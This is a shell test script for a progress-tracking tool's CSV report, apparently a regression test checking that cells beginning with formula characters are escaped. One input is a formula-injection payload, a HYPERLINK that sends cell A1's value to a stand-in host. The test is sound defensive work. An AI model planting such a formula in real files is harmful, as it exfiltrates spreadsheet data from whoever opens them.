# needs: root
# Issue 10: a result starting with = became a live formula in Excel. CSV
# cells starting with =, +, -, @, a tab or CR get a leading '; the JSON
# keeps the exact text.
. ./lib.sh; init_data
at '2026-05-10 09:00:00' update II.1 --progress 10 --result '=HYPERLINK("http://x/?"&A1,"click")' >/dev/null
at '2026-05-10 09:05:00' update II.2 --dept HCC --progress 10 --result '+84 912 345 678' >/dev/null
at '2026-05-10 09:10:00' update II.4 --dept HCC --progress 10 --result '@SUM(A1:A3)' >/dev/null
at '2026-05-10 09:15:00' update II.5 --dept HCC --progress 10 --result '-5% thời gian' >/dev/null
$PT -d $D report h1 --as-of 2026-05-20 --format csv >$TMP/r.csv
python3 - $TMP/r.csv <<'PY'
import csv, sys
with open(sys.argv[1], encoding="utf-8", newline="") as f:
    for row in csv.reader(f):
        if row[8]:
            print(row[1], row[8])
PY
$PT -d $D report h1 --as-of 2026-05-20 --format json | grep '"result"' | grep -v null
